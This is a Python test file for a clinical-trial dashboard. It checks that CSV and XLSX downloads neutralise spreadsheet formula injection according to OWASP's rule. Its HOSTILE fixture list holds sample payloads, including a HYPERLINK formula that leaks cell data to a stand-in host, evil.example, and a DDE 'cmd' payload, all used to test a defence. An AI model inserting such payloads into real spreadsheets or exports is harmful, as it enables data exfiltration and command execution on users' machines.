"""Table downloads never carry a live formula: text that a spreadsheet would evaluate is neutralised.

OWASP's CSV-injection rule: a text cell starting with = + - @ tab or carriage return gets a leading
single quote; in XLSX such text is stored as a string, never as a formula. Numbers stay numbers.
"""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from dashboard.access.audit import AuditLog
from dashboard.access.trial_view import TrialView
from dashboard.domain.subject_filter import SubjectFilter
from dashboard.ui.context import PageContext
from dashboard.ui.downloads import neutralise_formulas, table_csv, table_xlsx
from tests.conftest import connect_unblinded
from tests.pages.apptest_helpers import ROLE_VIEWERS

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1"]


@pytest.fixture
def ctx(trial_db, tmp_path):
    con = connect_unblinded(trial_db)
    yield PageContext(TrialView(con, ROLE_VIEWERS["investigator"], trial_db), SubjectFilter(), AuditLog(tmp_path / "a.jsonl"))
    con.close()


def _frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "usubjid": HOSTILE,
        "term": ["Pyrexia", "Rash\r=1+1"] + ["Pyrexia"] * (n - 3) + ["=1+2"],
        "change": [-1.5, -2.0, 0.0, 3.25, -0.5, -7.0, 1.0],
        "count": [-1, 2, -3, 4, 5, -6, 7],
        "mixed": [-4, "-5", "=A1", 2.5, None, "ok", "-1.2 (-2.3, 0.1)"],
        "=danger": ["x"] * n,
    })


def test_text_cells_get_a_leading_quote_and_numbers_stay_numbers():
    out = neutralise_formulas(_frame())
    assert out["usubjid"].tolist() == ["'" + s for s in HOSTILE]
    assert out["term"].iloc[-1] == "'=1+2" and out["term"].iloc[0] == "Pyrexia"
    assert out["change"].tolist() == [-1.5, -2.0, 0.0, 3.25, -0.5, -7.0, 1.0]
    assert out["count"].dtype.kind == "i" and out["count"].iloc[0] == -1
    # A negative number stays a number, and so does text that is just a number; text that is not, is quoted.
    assert out["mixed"].tolist()[:4] == [-4, "-5", "'=A1", 2.5] and out["mixed"].iloc[-1] == "'-1.2 (-2.3, 0.1)"
    assert "'=danger" in out.columns


def test_csv_has_no_cell_a_spreadsheet_would_evaluate(ctx):
    text = table_csv(ctx, _frame()).decode()
    back = pd.read_csv(io.StringIO(text), comment="#", keep_default_na=False)
    for column in back.columns:
        assert not str(column).startswith(("=", "+", "-", "@", "\t", "\r"))
        for value in back[column]:
            assert not (isinstance(value, str) and value[:1] in ("=", "+", "@", "\t", "\r")), value
    assert back["count"].tolist() == [-1, 2, -3, 4, 5, -6, 7]
    assert back["term"].iloc[1] == "Rash\r=1+1"  # quoted: a bare carriage return would start a new row
    assert back["change"].tolist()[0] == -1.5


def test_xlsx_stores_text_as_strings_never_formulas(ctx):
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx(ctx, _frame())))
    formulas = [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    ws = book["data"]
    header = [c.value for c in ws[1]]
    count = [ws.cell(row=r, column=header.index("count") + 1).value for r in range(2, ws.max_row + 1)]
    change = ws.cell(row=2, column=header.index("change") + 1)
    assert count == [-1, 2, -3, 4, 5, -6, 7] and change.data_type == "n" and change.value == -1.5
    ids = [ws.cell(row=r, column=header.index("usubjid") + 1).value for r in range(2, ws.max_row + 1)]
    assert ids == ["'" + s for s in HOSTILE]


def test_the_deferred_xlsx_of_the_download_button_is_neutralised_too():
    from dashboard.ui.downloads import _xlsx

    book = openpyxl.load_workbook(io.BytesIO(_xlsx(_frame(), "t", "=provenance")))
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
